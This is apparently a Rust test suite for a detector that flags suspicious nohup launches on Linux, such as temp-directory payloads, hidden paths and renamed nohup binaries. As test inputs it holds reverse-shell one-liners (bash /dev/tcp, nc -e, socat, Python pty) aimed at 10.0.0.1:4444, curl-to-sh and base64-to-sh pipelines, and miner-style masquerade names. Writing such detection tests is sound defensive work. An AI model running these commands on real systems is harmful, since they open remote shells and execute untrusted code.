//! The nohup detector's decisions, both sides: what is found (with which target and
//! indicators) and the look-alikes that are not.

use super::*;

fn exec(argv: &[&str]) -> ProcessStart {
    exec_at(argv, 100, 1, Some("/home/user"))
}

fn exec_at(argv: &[&str], pid: u32, ppid: u32, cwd: Option<&str>) -> ProcessStart {
    let mut p = ProcessStart::test_exec(argv, pid, ppid);
    p.cwd = cwd.map(str::to_string);
    p
}

fn run(events: Vec<ProcessStart>) -> Vec<Finding> {
    let mut d = NohupDetector::new(&Rules::embedded()).unwrap();
    let mut out = Findings::default();
    for p in events {
        d.observe(&Event::Process(p), &mut out);
    }
    out.drain()
}

fn one(argv: &[&str]) -> Finding {
    let mut f = run(vec![exec(argv)]);
    assert_eq!(f.len(), 1, "{argv:?} → {f:?}");
    f.remove(0)
}

fn has(f: &Finding, names: &[&str]) {
    for n in names {
        assert!(
            f.indicators.iter().any(|i| i == n),
            "{n} missing from {:?} ({})",
            f.indicators,
            f.command_line
        );
    }
}

#[test]
fn seed_test_1_plain_nc_is_a_network_tool() {
    // The seed's regex misses this: atomic test 1 runs `nohup nc -lvp 14444`.
    let f = one(&["nohup", "nc", "-lvp", "14444", "-s", "127.0.0.1"]);
    assert_eq!(f.exec_cmd, "nohup");
    assert_eq!(f.nohup_target, "nc");
    assert_eq!(f.nohup_args, "-lvp 14444 -s 127.0.0.1");
    has(&f, &["suspicious_net_tool"]);
    assert!(f.severity >= Severity::Medium);
    assert_eq!(f.detection_type, DetectionType::Nohup);
}

#[test]
fn seed_test_2_temp_dir_payload() {
    let f = one(&["nohup", "/tmp/df00tech_test_payload.sh"]);
    has(&f, &["temp_dir_payload"]);
    assert!(f.severity >= Severity::Medium);
    // Relative path resolved against a temp working directory.
    let f = run(vec![exec_at(
        &["nohup", "./x"],
        5,
        1,
        Some("/var/tmp/work"),
    )]);
    has(&f[0], &["temp_dir_payload"]);
    // An interpreter given a temp script.
    has(
        &one(&["nohup", "bash", "/dev/shm/run.sh"]),
        &["temp_dir_payload"],
    );
    has(
        &one(&["nohup", "python3", "-u", "/tmp/x.py"]),
        &["temp_dir_payload"],
    );
}

#[test]
fn wrappers_and_busybox() {
    for argv in [
        &["busybox", "nohup", "/tmp/x"][..],
        &["env", "X=1", "nohup", "/tmp/x"],
        &["setsid", "nohup", "/tmp/x"],
        &["sudo", "-u", "root", "nohup", "/tmp/x"],
        &["timeout", "5", "nohup", "/tmp/x"],
        &["nice", "-n", "5", "nohup", "/tmp/x"],
        &["stdbuf", "-oL", "nohup", "/tmp/x"],
        &["/usr/bin/nohup", "--", "/tmp/x"],
    ] {
        let f = one(argv);
        assert_eq!(f.nohup_target, "/tmp/x", "{argv:?}");
        has(&f, &["temp_dir_payload"]);
    }
    assert_eq!(
        one(&["busybox", "nohup", "/tmp/x"]).exec_cmd,
        "busybox nohup"
    );
    assert_eq!(
        one(&["/usr/bin/nohup", "/tmp/x"]).exec_cmd,
        "/usr/bin/nohup"
    );
}

#[test]
fn shell_strings_show_background_and_redirections() {
    let f = one(&["sh", "-c", "nohup /tmp/x >/dev/null 2>&1 &"]);
    assert_eq!(f.nohup_target, "/tmp/x");
    has(
        &f,
        &["temp_dir_payload", "background_exec", "output_discarded"],
    );
}

#[test]
fn reverse_and_interactive_shells() {
    let f = one(&[
        "sh",
        "-c",
        "nohup bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' &",
    ]);
    has(
        &f,
        &["reverse_shell", "interactive_shell", "background_exec"],
    );
    assert!(f.severity >= Severity::High);
    has(
        &one(&["nohup", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
        &["reverse_shell", "suspicious_net_tool"],
    );
    has(
        &one(&["nohup", "socat", "tcp:10.0.0.1:4444", "exec:/bin/bash,pty"]),
        &["reverse_shell"],
    );
    has(&one(&["nohup", "sh", "-i"]), &["interactive_shell"]);
    has(
        &one(&[
            "nohup",
            "python3",
            "-c",
            "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
        ]),
        &["reverse_shell"],
    );
}

#[test]
fn hidden_masquerading_downloading_encoded_persistent() {
    let f = one(&["nohup", "/tmp/.X11-cache/kworker", "1"]);
    has(&f, &["hidden_path", "temp_dir_payload", "masquerade_name"]);
    assert!(f.severity >= Severity::High);
    has(
        &one(&["nohup", "curl", "-o", "/tmp/a", "http://x"]),
        &["download_tool"],
    );
    has(
        &one(&["nohup", "sh", "-c", "curl -s http://x/a.sh | sh"]),
        &["download_tool"],
    );
    has(
        &one(&["nohup", "sh", "-c", "echo aGk= | base64 -d | sh"]),
        &["encoded_payload"],
    );
    has(
        &one(&["nohup", "/etc/init.d/localnet"]),
        &["persistence_path"],
    );
    // The genuine daemons in system directories are not masquerading.
    let f = one(&["nohup", "/usr/sbin/sshd", "-D"]);
    assert!(!f.indicators.iter().any(|i| i == "masquerade_name"));
}

#[test]
fn admin_jobs_stay_low() {
    let f = one(&[
        "sh",
        "-c",
        "nohup /opt/backup/run.sh > /var/log/backup.log 2>&1 &",
    ]);
    assert_eq!(f.indicators, ["background_exec"]);
    assert!(f.severity <= Severity::Low, "{:?}", f.severity);
    let f = one(&["nohup", "java", "-jar", "/opt/app/app.jar"]);
    assert!(f.indicators.is_empty());
    assert_eq!(f.severity, Severity::Low);
}

#[test]
fn look_alikes_are_not_nohup() {
    for argv in [
        &["grep", "nohup", "somefile"][..],
        &["echo", "nohup", "is", "a", "command"],
        &["sh", "-c", "echo 'nohup /tmp/x &'"],
        &["man", "nohup"],
        &["nohup", "--help"],
        &["python3", "-c", "import signal; print(signal.SIGHUP)"],
        &["vim", "/tmp/nohup.out"],
    ] {
        assert!(run(vec![exec(argv)]).is_empty(), "{argv:?}");
    }
}

#[test]
fn the_shell_string_and_the_nohup_exec_it_leads_to_are_one_finding() {
    // sh (pid 10) forks a child (pid 11) that execs nohup; then nohup execs /tmp/x.
    let events = vec![
        exec_at(
            &["sh", "-c", "nohup /tmp/x >/dev/null 2>&1 &"],
            10,
            1,
            Some("/"),
        ),
        exec_at(&["nohup", "/tmp/x"], 11, 10, Some("/")),
        exec_at(&["/tmp/x"], 11, 10, Some("/")),
    ];
    let f = run(events);
    assert_eq!(f.len(), 1, "{f:?}");
    has(&f[0], &["background_exec", "temp_dir_payload"]);
    // The real kernel's order (scenario 04 of examples/linux): `sh` exits before its
    // child execs nohup, so the child is re-parented to init; the login session links them.
    let mut sh = exec_at(
        &["sh", "-c", "nohup /tmp/z >/dev/null 2>&1 &"],
        50,
        1,
        Some("/"),
    );
    let mut child = exec_at(&["nohup", "/tmp/z"], 51, 1, Some("/"));
    sh.session = Some(7);
    child.session = Some(7);
    assert_eq!(run(vec![sh.clone(), child.clone()]).len(), 1);
    child.session = Some(8);
    assert_eq!(
        run(vec![sh, child]).len(),
        2,
        "another session's nohup is another launch"
    );
    // env exec'ing nohup in the same process: one finding too.
    let f = run(vec![
        exec_at(&["env", "X=1", "nohup", "/tmp/y"], 20, 1, None),
        exec_at(&["nohup", "/tmp/y"], 20, 1, None),
    ]);
    assert_eq!(f.len(), 1);
    // A different launch of the same target by an unrelated process is its own finding.
    let f = run(vec![
        exec_at(&["nohup", "/tmp/y"], 30, 1, None),
        exec_at(&["nohup", "/tmp/y"], 40, 2, None),
    ]);
    assert_eq!(f.len(), 2);
}

#[test]
fn scheduler_lines_are_excluded_but_command_text_is_read() {
    // A scheduler launch with nothing of medium severity: excluded (the seed's rule).
    let mut cron = exec(&[]);
    cron.origin = ProcessOrigin::Scheduler("CRON".into());
    cron.command_line = "nohup /usr/local/bin/backup.sh >/dev/null 2>&1 &".into();
    assert!(run(vec![cron.clone()]).is_empty());
    // With a staging-area payload: reported, with the scheduler as context.
    cron.command_line = "nohup /tmp/x &".into();
    let f = run(vec![cron]);
    assert_eq!(f.len(), 1);
    has(&f[0], &["temp_dir_payload", "scheduler_launch"]);
    let mut sudo = exec(&[]);
    sudo.origin = ProcessOrigin::CommandText;
    sudo.command_line = "nohup /tmp/.a/b &".into();
    let f = run(vec![sudo]);
    assert_eq!(f.len(), 1);
    has(&f[0], &["hidden_path", "background_exec"]);
}

#[test]
fn nohup_by_its_image_and_renamed_nohup_is_evidence() {
    // `exec -a kworker nohup /opt/app/run`: argv[0] changed, the image is nohup.
    let mut p = exec(&["kworker", "/opt/app/run"]);
    p.exe = Some("/usr/bin/nohup".into());
    let f = run(vec![p]);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].nohup_target, "/opt/app/run");
    has(&f[0], &["nohup_renamed"]);
    assert!(f[0].severity >= Severity::Medium);
    // A copy of nohup made on the host, run under its new name.
    let cp = exec_at(
        &["cp", "/usr/bin/nohup", "/var/tmp/hup"],
        10,
        1,
        Some("/root"),
    );
    let mut run_copy = exec_at(&["/var/tmp/hup", "/opt/app/run"], 11, 1, Some("/root"));
    run_copy.exe = Some("/var/tmp/hup".into());
    let f = run(vec![cp, run_copy.clone()]);
    assert_eq!(f.len(), 1);
    has(&f[0], &["nohup_renamed"]);
    // Without the copy in the log, a program of that name is not nohup.
    assert!(run(vec![run_copy]).is_empty());
    // The real nohup under its own name is not renamed.
    let mut plain = exec(&["nohup", "/opt/app/run"]);
    plain.exe = Some("/usr/bin/nohup".into());
    assert!(
        !run(vec![plain])[0]
            .indicators
            .iter()
            .any(|i| i == "nohup_renamed")
    );
}

#[test]
fn the_payload_is_what_runs_behind_wrappers_after_nohup() {
    for argv in [
        &["nohup", "nice", "-n", "19", "/dev/shm/x"][..],
        &["nohup", "stdbuf", "-oL", "timeout", "5", "/run/lock/x"],
        &["nohup", "sh", "-c", "exec /var/tmp/x"],
        &["nohup", "setsid", "/run/user/1000/x"],
    ] {
        let f = one(argv);
        has(&f, &["temp_dir_payload"]);
    }
    // A tool directory under a home is not hidden; a dot-directory in a cache is.
    let f = one(&["nohup", "/home/u/.local/bin/jupyter-lab"]);
    assert!(f.severity <= Severity::Low, "{f:?}");
    let f = one(&["nohup", "/home/u/.cache/.x/kdevtmpfsi"]);
    has(&f, &["hidden_path", "temp_dir_payload"]);
}

#[test]
fn cd_in_the_shell_string_and_tilde_are_followed() {
    // The shell runs in /tmp but cds to the project first.
    let f = run(vec![exec_at(
        &[
            "sh",
            "-c",
            "cd /opt/app && nohup ./run.sh >/dev/null 2>&1 &",
        ],
        20,
        1,
        Some("/tmp"),
    )]);
    assert!(
        !f[0].indicators.iter().any(|i| i == "temp_dir_payload"),
        "{f:?}"
    );
    // `~` is root's home, never the working directory.
    let mut p = exec_at(&["sh", "-c", "nohup ~/.x/miner &"], 21, 1, Some("/tmp"));
    p.user = Some("root".into());
    let f = run(vec![p]);
    has(&f[0], &["hidden_path"]);
    assert!(
        !f[0].indicators.iter().any(|i| i == "temp_dir_payload"),
        "{f:?}"
    );
}

#[test]
fn scheduler_exclusions_are_counted_and_kept() {
    let mut d = NohupDetector::new(&Rules::embedded()).unwrap();
    let mut out = Findings::default();
    for (i, cmd) in [
        "nohup /usr/local/bin/a.sh &",
        "nohup /usr/local/bin/b.sh &",
        "nohup /dev/shm/.m/x &",
    ]
    .iter()
    .enumerate()
    {
        let mut p = exec_at(&[], 30 + i as u32, 1, None);
        p.origin = ProcessOrigin::Scheduler("CRON".into());
        p.command_line = cmd.to_string();
        d.observe(&Event::Process(p), &mut out);
    }
    let (kept, count) = d.exclusions();
    assert_eq!(count, 2);
    assert_eq!(kept.len(), 2);
    assert!(kept[0].command_line.contains("a.sh") && kept[0].reason.contains("CRON"));
    let f = out.drain();
    assert_eq!(f.len(), 1);
    has(&f[0], &["scheduler_launch", "hidden_path"]);
}

fn text(line: &str) -> ProcessStart {
    let mut p = exec(&[]);
    p.origin = ProcessOrigin::CommandText;
    p.command_line = line.into();
    p
}

#[test]
fn a_name_the_text_gives_nohup_is_a_renamed_nohup() {
    for line in [
        "cp /usr/bin/nohup /var/tmp/hup; /var/tmp/hup /opt/app/run &",
        "ln -s /usr/bin/nohup /var/tmp/hup && /var/tmp/hup /opt/app/run &",
        "alias hup=nohup; hup /opt/app/run &",
    ] {
        let f = run(vec![text(line)]);
        assert_eq!(f.len(), 1, "{line}");
        assert_eq!(f[0].nohup_target, "/opt/app/run", "{line}");
        has(&f[0], &["nohup_renamed", "background_exec"]);
    }
    // nohup under its own name, and a copy that is not run: no rename.
    let f = run(vec![text(
        "cp /usr/bin/nohup /var/tmp/hup; nohup /opt/app/run &",
    )]);
    assert_eq!(f.len(), 1);
    assert!(!f[0].indicators.iter().any(|i| i == "nohup_renamed"));
    assert!(run(vec![text("cp /usr/bin/nohup /var/tmp/hup")]).is_empty());
}

#[test]
fn a_target_find_or_xargs_fills_in_is_reported_from_text_only() {
    for line in [
        "find /tmp -name x -exec nohup {} \\; &",
        "echo /tmp/x | xargs nohup &",
        "xargs -0 nohup < /tmp/list",
    ] {
        let f = run(vec![text(line)]);
        assert_eq!(f.len(), 1, "{line}");
        assert_eq!(f[0].nohup_target, "{}", "{line}");
    }
    // From an exec log, the nohup exec that find or xargs makes is the finding.
    assert!(run(vec![exec(&["find", "/tmp", "-exec", "nohup", "{}", ";"])]).is_empty());
    assert!(run(vec![exec(&["xargs", "nohup"])]).is_empty());
    // nohup alone, or --version, launches nothing.
    assert!(run(vec![text("nohup &")]).is_empty());
    assert!(run(vec![text("echo x | xargs nohup --version")]).is_empty());
}

#[test]
fn launch_free_argvs_hold_only_the_argvs_put_there() {
    let argv = |words: &[&str]| -> Vec<String> { words.iter().map(|w| w.to_string()).collect() };
    let mut memo = LaunchFreeArgvs::default();
    let echo = argv(&["sh", "-c", "echo nohup is a command"]);
    assert!(!memo.contains(&echo));
    memo.insert(&echo);
    assert!(memo.contains(&echo));
    // Another argv, a prefix of it, one word more, the words joined otherwise.
    for other in [
        argv(&["sh", "-c", "echo nohup is a command &"]),
        argv(&["sh", "-c"]),
        argv(&["sh", "-c", "echo nohup is a command", "x"]),
        argv(&["sh", "-c echo", "nohup is a command"]),
        Vec::new(),
    ] {
        assert!(!memo.contains(&other), "{other:?}");
    }
    // A slot keeps the argv last put there; many argvs, each found right after.
    for i in 0..1000 {
        let a = argv(&["grep", "-c", "nohup", &format!("/var/log/{i}")]);
        memo.insert(&a);
        assert!(memo.contains(&a));
    }
    // An argv too long to keep is not kept.
    let long = argv(&["sh", "-c", &"echo nohup ".repeat(1000)]);
    memo.insert(&long);
    assert!(!memo.contains(&long));
}

#[test]
fn an_argv_that_launched_nothing_still_launches_when_its_image_is_nohup() {
    let helper = || {
        let mut p = exec_at(
            &["/var/tmp/nohup-helper", "/opt/app/run"],
            20,
            1,
            Some("/root"),
        );
        p.exe = Some("/var/tmp/nohup-helper".into());
        p
    };
    // Not nohup: nothing, the second time from the table.
    assert!(run(vec![helper(), helper()]).is_empty());
    // Made a copy of nohup in between: the same argv now runs nohup.
    let cp = exec_at(
        &["cp", "/usr/bin/nohup", "/var/tmp/nohup-helper"],
        10,
        1,
        Some("/root"),
    );
    let f = run(vec![helper(), cp, helper()]);
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0].nohup_target, "/opt/app/run");
    has(&f[0], &["nohup_renamed"]);
}
